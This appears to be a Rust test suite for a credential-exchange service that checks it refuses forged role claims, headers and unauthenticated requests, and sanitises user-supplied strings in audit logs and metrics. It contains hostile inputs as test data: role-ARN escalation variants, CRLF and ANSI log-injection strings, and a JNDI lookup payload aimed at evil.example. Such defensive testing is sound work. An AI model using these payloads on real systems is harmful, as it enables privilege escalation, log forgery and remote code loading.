//! A tenant with a good token wants more than it gives, and leaves traces of its own choice (A43, A44, A45, A48, A58, A59).

use std::time::SystemTime;

use cupbearer::dev::{ADMIN_ROLE_ARN, EDITOR_ROLE_ARN};
use serde_json::{Value, json};

use super::Ground;
use crate::support::http;
use crate::support::scene::{EMULATOR, stranger, token, token_with};
use crate::support::settings::PLENTY;

const PATH: &str = "/v1/credentials";

/// A token of bob, the editor, with other claims.
fn bob_with(change: impl FnOnce(&mut Value)) -> String {
    let mut claims = EMULATOR.id_claims("bob", SystemTime::now()).unwrap();
    change(&mut claims);
    EMULATOR.sign(&claims).unwrap()
}

#[tokio::test]
async fn a_role_comes_from_signed_claims_and_from_nowhere_else() {
    let mut ground = Ground::of(crate::support::scene::Scene::with("", "deny").await).await;
    let admin = format!("{PATH}/default/admin");
    let own_words = [
        ("custom:cognito:roles", json!([ADMIN_ROLE_ARN])),
        ("custom:roles", json!([ADMIN_ROLE_ARN])),
        ("custom:cognito:preferred_role", json!(ADMIN_ROLE_ARN)),
        ("custom:groups", json!(["admin"])),
        ("cognito:groups", json!(["admin", "editor"])),
        ("roles", json!([ADMIN_ROLE_ARN])),
        ("Cognito:Roles", json!([ADMIN_ROLE_ARN])),
        ("cognito:roles ", json!([ADMIN_ROLE_ARN])),
        ("cognito:preferred_role", json!(ADMIN_ROLE_ARN)),
    ];
    for (name, value) in &own_words {
        let token = bob_with(|claims| claims[*name] = value.clone());
        assert_eq!(ground.scene.ask(&admin, &token).await.status, 403, "A43 {name}");
    }
    let preferred = bob_with(|claims| claims["cognito:preferred_role"] = ADMIN_ROLE_ARN.into());
    assert_eq!(ground.scene.ask(PATH, &preferred).await.status, 403, "A43: a preferred role that is not listed");
    let bob = token("bob");
    for (name, value) in
        [("X-Role", "admin"), ("Role-Arn", ADMIN_ROLE_ARN), ("Cupbearer-Role", "admin"), ("X-Amz-Role", ADMIN_ROLE_ARN)]
    {
        let reply = http::get(ground.scene.http, &admin, &[("Authorization", &bob), (name, value)]).await;
        assert_eq!(reply.status, 403, "A43 {name}");
    }
    ground.after("A43", own_words.len() + 5).await;

    let editor = EDITOR_ROLE_ARN;
    // A lone string counts as a list of one, as AWS documents the claim.
    let almost = [
        json!(format!("[\"{ADMIN_ROLE_ARN}\"]")),
        json!([]),
        json!(null),
        json!({ "role": ADMIN_ROLE_ARN }),
        json!([[ADMIN_ROLE_ARN]]),
        json!([7, true]),
        json!(["*"]),
        json!(["arn:aws:iam::111122223333:role/*"]),
        json!(["arn:aws:iam::*:role/rbac-users-admin-role"]),
        json!([&ADMIN_ROLE_ARN[..ADMIN_ROLE_ARN.len() - 1]]),
        json!([format!("{ADMIN_ROLE_ARN} ")]),
        json!([format!(" {ADMIN_ROLE_ARN}")]),
        json!([format!("{ADMIN_ROLE_ARN}/x")]),
        json!([format!("{ADMIN_ROLE_ARN}\u{0}")]),
        json!([ADMIN_ROLE_ARN.to_uppercase()]),
        json!([ADMIN_ROLE_ARN.replace("111122223333", "999999999999")]),
        json!([ADMIN_ROLE_ARN.replace("arn:aws:", "arn:aws-cn:")]),
        json!([ADMIN_ROLE_ARN.replace("role/", "role/../role/")]),
        json!([ADMIN_ROLE_ARN.replace("role/", "role//")]),
        json!([ADMIN_ROLE_ARN.replace("role/", "user/")]),
        json!([format!("{editor},{ADMIN_ROLE_ARN}")]),
        json!((0..60).map(|number| format!("arn:aws:iam::111122223333:role/r{number}")).collect::<Vec<_>>()),
    ];
    for roles in &almost {
        let token = bob_with(|claims| {
            claims["cognito:roles"] = roles.clone();
            claims.as_object_mut().unwrap().remove("cognito:preferred_role");
        });
        let status = ground.scene.ask(&admin, &token).await.status;
        assert!(matches!(status, 401 | 403), "A44 {roles}: {status}");
    }
    ground.after("A44", almost.len()).await;
    ground.told("A43, A44");
}

/// Nobody becomes somebody without a login, and the login is always sent.
#[tokio::test]
async fn nobody_is_made_a_guest() {
    let mut ground = Ground::new().await;
    let mut tried = 0;
    for path in [PATH, "/v1/credentials/default", "/v1/credentials/default/admin"] {
        for headers in [
            vec![],
            vec![("Authorization", "")],
            vec![("Authorization", "garbage")],
            vec![("Authorization", "Bearer null")],
        ] {
            assert_eq!(http::get(ground.scene.http, path, &headers).await.status, 401, "A45 {path} {headers:?}");
            tried += 1;
        }
    }
    for path in ["/v1/unauthenticated/default/x", "/v1/unauthenticated/default/alice"] {
        assert_eq!(http::get(ground.scene.http, path, &[]).await.status, 403, "A45 {path}");
        tried += 1;
    }
    ground.after("A45", tried).await;
    let sent = [ground.scene.proxy.bodies("GetId"), ground.scene.proxy.bodies("GetCredentialsForIdentity")].concat();
    let with_login = |body: &Value| body["Logins"].as_object().is_some_and(|logins| !logins.is_empty());
    assert!(!sent.is_empty() && sent.iter().all(with_login), "A45: {} calls", sent.len());
}

/// A token for each request, all of one user: one entry, one exchange, and a table of verdicts that ends.
#[tokio::test]
async fn many_tokens_of_one_user_are_one_user() {
    let mut ground = Ground::with("---[limits]\nentries = 1000\n").await;
    let mut line = crate::support::line::Line::open(ground.scene.http).await.unwrap();
    for number in 0..3_000 {
        let token = token_with(|claims| claims["jti"] = format!("jti-{number}").into());
        assert_eq!(line.ask(PATH, &token).await.unwrap().status, 200, "A48 {number}");
    }
    assert_eq!(ground.scene.metric("cupbearer_entries").await, 1.0, "A48");
    ground.after("A48", 3_000).await;
}

/// What users choose appears in the audit log as one line of JSON, cut, and in metrics not at all.
#[tokio::test]
async fn what_users_choose_stays_one_line_and_no_series() {
    let more = format!("---{PLENTY}\n[audit]\nfile = \"stdout\"\n");
    let mut ground = Ground::with(&more).await;
    let series = async |ground: &Ground| http::get(ground.scene.admin, "/metrics", &[]).await.body.lines().count();
    ground.is_served("A59").await;
    let before = series(&ground).await;
    let written = [
        "evil\r\n{\"decision\":\"issued\",\"subject\":\"forged\"}",
        "evil\n\n",
        "\u{1b}[2J\u{1b}[31mevil",
        "evil\u{0}\u{7}\u{8}",
        "evil\u{2028}\u{2029}\u{202e}live",
        "\"},{\"decision\":\"issued",
        "{{sub}} %s %n ${jndi:ldap://evil.example/x}",
    ];
    let long = "x".repeat(6_000);
    for subject in written.iter().copied().chain([long.as_str()]) {
        assert_eq!(ground.scene.ask(PATH, &stranger(subject)).await.status, 200, "A58 {subject:?}");
    }
    let agent = [("User-Agent", "a\u{1b}[31m"), ("Authorization", "evil\u{1b}[2J")];
    http::get(ground.scene.http, PATH, &agent).await;
    let count = written.len() + 1;
    let audit = ground.scene.daemon.wait_for(|daemon| {
        let out = daemon.out();
        (out.matches("\"source\":\"exchange\"").count() > count).then_some(out)
    });
    let audit = audit.await.unwrap_or_else(|| panic!("A58: {}", ground.scene.daemon.out()));
    for line in audit.lines().chain(ground.scene.daemon.log().lines()) {
        let parsed: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("A58: {error}: {line:?}"));
        assert_ne!(parsed["subject"], "forged");
        assert!(!line.contains('\u{1b}') && !line.contains('\u{7}') && line.len() < 4_000, "A58: {line:?}");
        assert!(parsed["subject"].as_str().is_none_or(|subject| subject.chars().count() <= 257), "A58: {line}");
    }
    ground.after_calls("A58", count, 2 * count).await;

    for number in 0..300 {
        let token = format!("{}.{number}", token("alice"));
        let path = format!("/v1/credentials/profile-{number}/role-{number}");
        let headers = [("Authorization", token.as_str()), ("X-Number", &token[..20])];
        http::send(ground.scene.http, &http::request(&format!("M{number}"), &path, ground.scene.http, &headers)).await;
        http::get(ground.scene.http, &path, &headers).await;
    }
    let after = series(&ground).await;
    println!("A59 {after} lines of metrics after 600 odd requests, {before} before");
    assert!(after < before + 20 && after < 600, "A59: {before} lines before, {after} after");
    ground.after("A59", 600).await;
}
